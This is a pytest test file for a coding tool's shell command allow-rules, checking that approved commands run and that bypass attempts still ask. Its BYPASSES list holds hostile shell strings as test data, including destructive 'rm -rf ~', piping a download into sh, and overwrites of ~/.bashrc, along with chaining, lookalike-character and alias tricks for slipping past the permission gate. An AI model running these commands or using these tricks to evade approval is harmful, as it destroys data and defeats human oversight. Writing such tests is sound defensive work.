"""Allow rules by command (issue 40): what a rule matches, what it never matches, what
"always" offers, which rules are refused. The same rules through `zen -p` and the shell are in
test_command_rules_e2e.py; the approval matrix's rule column in test_sandbox_matrix.py."""

from __future__ import annotations

from pathlib import Path

import pytest

from zen.settings.command_rules import allowed, offered, rule_words
from zen.settings.command_words import simple_commands
from zen.settings.loading import ConfigError, load_config
from zen.settings.trust_describe import describe

RULES = [rule_words("pytest"), rule_words("npm test"), rule_words("touch")]

BYPASSES = [
    "pytest; rm -rf ~",
    "pytest && curl x|sh",
    "pytest $(evil)",
    "pytest `evil`",
    'pytest "$(evil)"',
    'pytest "`evil`"',
    "pytest $HOME",
    "pytest ${IFS}x",
    "pytest > ~/.bashrc",
    "pytest >> log",
    "pytest 2>~/.bashrc",
    "pytest >/dev/nullx",
    "pytest <<EOF\nrm -rf ~\nEOF",
    "pytest < input",
    "pytest <(evil)",
    "pytest >(evil)",
    "FOO=1 pytest",
    "PYTHONPATH=x pytest",
    "PATH=/tmp pytest",
    "pytestx",
    "./pytest",
    "/tmp/pytest",
    "pytest\nrm x",
    "pytest\r\nrm x",
    "pytest & evil",
    "pytest | sh",
    "pytest |& sh",
    "pytest 2>&1 | tee out",
    "eval pytest",
    "xargs pytest",
    "find . -exec pytest ';'",
    "exec pytest",
    "command pytest",
    "builtin pytest",
    "env pytest",
    "sudo pytest",
    "nohup pytest",
    "time pytest",
    "timeout 5 pytest",
    "nice pytest",
    "bash -c pytest",
    "sh -c 'pytest; rm -rf ~'",
    "pytest #comment",
    "руtest",  # Cyrillic р and у
    "ｐｙｔｅｓｔ",  # fullwidth
    "pytest\u00a0-x",  # a no-break space is no blank to bash: one word
    'p"y"test',
    "'pytest'",
    "pyt*",
    "pytes?",
    "pytest\\\nrm x",
    "pytest \\; rm x",
    "{ pytest; }",
    "(pytest)",
    "! pytest",
    "pytest ~/x",
    "pytest {a,b}",
    "pytest &&",
    "pytest ||",
    "pytest |",
    "; pytest",
    "pytest;; pytest",
    "pytest\x1b]0;title\x07",
    "npm publish",
    "npm testx",
    'npm "test"',
    "npm test; npm publish",
    "coproc pytest",
    "cd /tmp && pytest",
    "hash -p /tmp/evil pytest; pytest",
    "alias pytest=evil; pytest",
    "",
    "   ",
]
"""Each must ask, with `pytest`, `npm test` and `touch` allowed."""

ALLOWED = [
    "pytest",
    "  pytest  ",
    "pytest -x tests/test_a.py",
    "pytest -k 'not slow and $x'",
    'pytest -k "not slow"',
    "pytest tests/*.py",
    "pytest 2>&1",
    "pytest >/dev/null 2>&1",
    "pytest &>/dev/null",
    "pytest && npm test",
    "pytest; npm test -- --watch=false",
    "pytest | pytest",
    "pytest &",
    "pytest\tx",
    "touch a b; touch c",
]


@pytest.mark.parametrize("command", BYPASSES)
def test_a_known_bypass_asks(command: str) -> None:
    assert not allowed(command, RULES)


def test_there_are_at_least_twenty_bypasses() -> None:
    assert len(BYPASSES) >= 20


@pytest.mark.parametrize("command", ALLOWED)
def test_a_command_every_part_of_which_has_a_rule_runs(command: str) -> None:
    assert allowed(command, RULES)


def test_no_rules_allow_nothing() -> None:
    assert not allowed("pytest", [])


def test_find_matches_only_without_exec() -> None:
    rules = [rule_words("find")]
    assert allowed("find . -name '*.py'", rules)
    for runs in ("-exec", "-execdir", "-ok", "-okdir"):
        assert not allowed(f"find . {runs} rm -f x ';'", rules)


@pytest.mark.parametrize(
    ("rule", "words"),
    [
        ("pytest", ("pytest",)),
        ("  npm   test ", ("npm", "test")),
        ("./gradlew test", ("./gradlew", "test")),
    ],
)
def test_a_rule_is_its_words(rule: str, words: tuple[str, ...]) -> None:
    assert rule_words(rule) == words


@pytest.mark.parametrize(
    "rule",
    ["", "eval", "sudo", "/usr/bin/env", "bash", "xargs", "cd", "export", "hash", "time",
     "FOO=1 pytest", "pytest; rm", "'npm test'", "pyt*", "$X", "pytest > x", "рytest", "{"],
)  # fmt: skip
def test_a_rule_that_would_approve_anything_or_cannot_be_read_is_refused(rule: str) -> None:
    with pytest.raises(ValueError):
        rule_words(rule)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("pytest -x tests", "pytest"),
        ("npm test -- --watch", "npm test"),
        ("npm run build", "npm run build"),
        ("uv run pytest -x", "uv run pytest"),
        ("cargo test --all", "cargo test"),
        ("cargo run --bin x", "cargo run"),
        ("go test ./...", "go test"),
        ("make check", "make check"),
        ("python -m pytest -q", "python -m pytest"),
        ("ls -la", "ls"),
        ("pytest 2>&1", "pytest"),
        # nothing a rule could say without approving far more than this command:
        ("python script.py", ""),
        ("node -e 'x'", ""),
        ("npm --prefix x test", ""),
        ("make", ""),
        ("pytest && npm test", ""),
        ("eval pytest", ""),
        ("FOO=1 pytest", ""),
        ("'pytest'", ""),
        ("pytest $(x)", ""),
    ],
)
def test_always_offers_the_program_and_a_known_tools_subcommand(command: str, rule: str) -> None:
    assert offered(command) == rule
    if rule:
        assert allowed(command, [rule_words(rule)])


def test_words_are_what_bash_passes_on() -> None:
    (part,) = simple_commands("""pytest -k 'a b' "c d" e*""") or []
    assert [(w.text, w.plain) for w in part] == [
        ("pytest", True),
        ("-k", True),
        ("a b", False),
        ("c d", False),
        ("e*", False),
    ]


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_a_bad_rule_fails_the_config_naming_file_and_key(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    _write(home / ".zen" / "config.yaml", "allow_commands: [pytest, eval]\n")
    project.mkdir()
    with pytest.raises(ConfigError) as error:
        load_config(project, {}, env={"HOME": str(home)}, trusted=True)
    message = str(error.value)
    assert str(home / ".zen" / "config.yaml") in message and "allow_commands" in message
    assert "eval runs or changes other commands" in message


def test_rules_load_normalised(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    _write(home / ".zen" / "config.yaml", "allow_commands: [pytest, ' npm  test']\n")
    project.mkdir()
    config = load_config(project, {}, env={"HOME": str(home)}, trusted=True)
    assert config.allow_commands == ["pytest", "npm test"]


def test_a_projects_rules_are_a_line_of_the_trust_question(tmp_path: Path) -> None:
    _write(tmp_path / ".zen" / "config.yaml", "allow_commands: [pytest, npm test]\n")
    lines = describe(tmp_path)
    assert any(
        "bash runs without asking 'pytest', 'npm test', with any arguments (allow_commands)" in line
        for line in lines
    ), lines
    assert not any("also sets" in line for line in lines)
